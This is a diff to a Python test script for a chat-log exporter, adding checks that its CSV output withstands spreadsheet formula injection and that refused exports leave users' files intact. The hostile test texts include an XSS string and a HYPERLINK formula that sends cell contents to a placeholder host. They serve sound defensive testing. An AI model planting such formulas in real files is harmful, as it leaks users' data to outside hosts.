@@ -4,7 +4,11 @@ JSON, read back with Python's csv and json, gives exactly the messages in the
 chat log files (read here by a walk of our own), in order, with order, filter,
 dates, --grep and --friend applied; plus hostile and non-GBK texts, exit
 codes, folder output, the local-time offset, and folder output split into
-pages (by month, local or UTC, and by count) read back page after page.
+pages (by month, local or UTC, and by count) read back page after page. The
+CSV is read as a spreadsheet on a Chinese Windows reads it (UTF-8 only by its
+byte-order mark; a cell that begins with = + - @ tab or CR is a formula
+there), and an export refused for its inputs leaves the user's files as they
+were.
 
 Every file goes under --work, a folder that belongs to this test alone."""
 import argparse
@@ -133,8 +137,27 @@ def expected(logs, order="asc", filt="all", date_from=None, date_to=None, grep=N
     return out
 
 
-def from_csv(data):
-    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_rows(data, raw=False):
+    """The cells as a spreadsheet opens the file: without the byte-order mark
+    it would read code page 936; a cell that begins like a formula would run.
+    The apostrophe that keeps such a text a text is the export's mark, not
+    the friend's text, and is taken off (not with --csv-raw, which has none)."""
+    check(data.startswith(b"\xef\xbb\xbf"), "CSV begins with the UTF-8 byte-order mark")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    if raw:
+        return rows
+    for row in rows:
+        for cell in row:
+            check(not cell.startswith(FORMULA_STARTS), "a CSV cell a spreadsheet runs: %r" % cell)
+    return [[c[1:] if c[:1] == "'" and c[1:2] and c[1:2] in FORMULA_STARTS else c for c in row]
+            for row in rows]
+
+
+def from_csv(data, raw=False):
+    rows = spreadsheet_rows(data, raw)
     check(rows and rows[0] == ["friend key", "friend", "sender", "direction", "date", "time",
                                "text"], "CSV header row")
     out = {}
@@ -206,11 +229,13 @@ def read_pages(folder, fmt):
     order: {friend key: [(page file, index entry, page bytes)]}."""
     out = {}
     if fmt == "csv":
-        accounts = list(csv.DictReader(open(os.path.join(folder, "index.csv"), newline="",
-                                            encoding="utf-8")))
+        def table(path):  # a spreadsheet's reading, the mark checked
+            rows = spreadsheet_rows(open(path, "rb").read())
+            return [dict(zip(rows[0], r)) for r in rows[1:]]
+        accounts = table(os.path.join(folder, "index.csv"))
         for a in accounts:
             friend_index = os.path.join(folder, a["file"])
-            pages = list(csv.DictReader(open(friend_index, newline="", encoding="utf-8")))
+            pages = table(friend_index)
             out[a["friend key"]] = [
                 (os.path.join(os.path.dirname(friend_index), p["file"]), p,
                  open(os.path.join(os.path.dirname(friend_index), p["file"]), "rb").read())
@@ -381,19 +406,37 @@ def main():
     hostile = os.path.join(ARGS.work, "hostile")
     os.makedirs(hostile)
     texts = [b"</div><script>alert(1)</script>", b'","', b'a "quoted", text\r\nline 2',
-             b"bad \xff byte \xc4", b"\xc4\xe3\xba\xc3\\n", b""]
+             b"bad \xff byte \xc4", b"\xc4\xe3\xba\xc3\\n", b"",
+             b'=HYPERLINK("http://x.example/?d="&G3,"open")', b"-1+2", b"@SUM(A1)",
+             b"+86 10", b"\tcmd"]
     header = (b"DRCC" + struct.pack("<H", 1) + b"\0" * 16 + b"42".ljust(16, b"\0") +
               b"<b>me</b>".ljust(21, b"\0") + b'x","y'.ljust(21, b"\0"))
     body = b"".join(struct.pack("<HHiI", 13 + len(t), 0, 1767225600 + i, i % 2) + t + b"\0"
                     for i, t in enumerate(texts))
     open(os.path.join(hostile, "42.dat"), "wb").write(header + body)
     want_texts = ["</div><script>alert(1)</script>", '","', 'a "quoted", text\r\nline 2',
-                  "bad " + REPLACEMENT + " byte " + REPLACEMENT, "\u4f60\u597d\\n", ""]
+                  "bad " + REPLACEMENT + " byte " + REPLACEMENT, "\u4f60\u597d\\n", "",
+                  '=HYPERLINK("http://x.example/?d="&G3,"open")', "-1+2", "@SUM(A1)", "+86 10",
+                  "\tcmd"]
     rc, out, err = run([hostile, "--format", "csv", "--utc"])
     check(rc == 0, "clean log exits 0 (got %d: %s)" % (rc, err))
     got = from_csv(out)
     check([r[4] for r in got.get("42", [])] == want_texts, "hostile texts through CSV")
     check(got.get("42", [("",)])[0][0] == "<b>me</b>", "owner name through CSV")
+    check(b"\"'=HYPERLINK(" in out and b",'-1+2\r\n" in out, "formula starts kept as text")
+    rc, out, err = run([hostile, "--format", "csv", "--utc", "--csv-raw"])
+    got = from_csv(out, raw=True)
+    check([r[4] for r in got.get("42", [])] == want_texts and b"'" not in out,
+          "--csv-raw writes the exact texts")
+    # Names a friend chooses are guarded the same way.
+    named = os.path.join(ARGS.work, "named")
+    os.makedirs(named)
+    open(os.path.join(named, "43.dat"), "wb").write(
+        header[:22] + b"43".ljust(16, b"\0") + b"-me".ljust(21, b"\0") +
+        b"=1+1".ljust(21, b"\0") + struct.pack("<HHiI", 15, 0, 1767225600, 1) + b"hi\0")
+    rc, out, err = run([named, "--format", "csv"])
+    check(from_csv(out).get("43", [("",)])[0][0] == "=1+1" and b",'=1+1," in out,
+          "a friend's name that starts a formula")
     rc, out, err = run([hostile, "--format", "json", "--utc"])
     doc = json.loads(out.decode("utf-8"))
     check([m["text"] for m in doc["messages"]] == want_texts, "hostile texts through JSON")
@@ -422,8 +465,9 @@ def main():
     folder = os.path.join(ARGS.work, "folder") + os.sep
     rc, out, err = run([account, "--format", "csv", "--utc", "-o", folder])
     check(rc == 2 and out == b"", "folder output exits 2 and writes nothing to stdout")
-    index = list(csv.DictReader(open(os.path.join(folder, "index.csv"), newline="",
-                                     encoding="utf-8")))
+    index_bytes = open(os.path.join(folder, "index.csv"), "rb").read()
+    index = list(csv.DictReader(io.StringIO(index_bytes.decode("utf-8-sig"), newline="")))
+    check(index_bytes.startswith(b"\xef\xbb\xbf"), "the CSV index has the byte-order mark")
     want = expected(logs)
     check(sorted(e["friend key"] for e in index) == sorted(want), "index lists every friend")
     for e in index:
@@ -432,6 +476,40 @@ def main():
         check(int(e["messages"]) == len(want[e["friend key"]]), "count of " + e["file"])
     check(sorted(os.listdir(folder)) == sorted([e["file"] for e in index] + ["index.csv"]),
           "no temporary file left in the folder")
+
+    # Inputs that name nothing to export are refused before anything is
+    # written: an existing output stays as it was, and none is created.
+    users = os.path.join(ARGS.work, "users.csv")
+    fresh = os.path.join(ARGS.work, "fresh.csv")
+    foreign = os.path.join(ARGS.work, "notes.txt")
+    open(foreign, "wb").write(b"not a chat log, long enough for a header " * 4)
+    short = os.path.join(ARGS.work, "1.dat")
+    open(short, "wb").write(header[:40])
+    for bad, named in [(os.path.join(ARGS.work, "none"), "none"), (foreign, "notes.txt"),
+                       (short, "1.dat"), (os.path.join(ARGS.work, "named") + "x", "namedx")]:
+        open(users, "wb").write(b"the user's own file")
+        for target in [users, fresh]:
+            rc, out, err = run([hostile, bad, "--format", "csv", "-o", target])
+            check(rc == 2 and named in err and "nothing written" in err,
+                  "refused with a reason for %s (got %d: %s)" % (named, rc, err))
+        check(open(users, "rb").read() == b"the user's own file", "output kept for " + named)
+        check(not os.path.exists(fresh), "no output created for " + named)
+    check(sorted(os.listdir(ARGS.work)).count("users.csv") == 1 and
+          not [n for n in os.listdir(ARGS.work) if ".tmp-" in n], "no temporary left")
+    # Folder mode never writes over a log it reads.
+    # Folder mode never writes over a log it reads: a friend's file, the
+    # index, or (split) a page in the friend's folder.
+    for n, (place, options) in enumerate([("42.csv", ["--format", "csv"]),
+                                          ("index.csv", ["--format", "csv"]),
+                                          ("2026-01/2026-01.html", ["--format", "html"])]):
+        clash = os.path.join(ARGS.work, "clash-%d" % n)
+        os.makedirs(os.path.dirname(os.path.join(clash, place)))
+        shutil.copy(os.path.join(hostile, "42.dat"), os.path.join(clash, place))
+        rc, out, err = run([os.path.join(clash, place), "--utc", "-o", clash + os.sep] + options)
+        check(rc == 2 and "overwritten" in err, "refused to overwrite " + place)
+        check(open(os.path.join(clash, place), "rb").read() ==
+              open(os.path.join(hostile, "42.dat"), "rb").read() and
+              sorted(os.listdir(clash)) == [place.split("/")[0]], "input %s untouched" % place)
 
     # Local time: the offset in force, on the host (Wine maps time zones its own way).
     if not ARGS.runner:
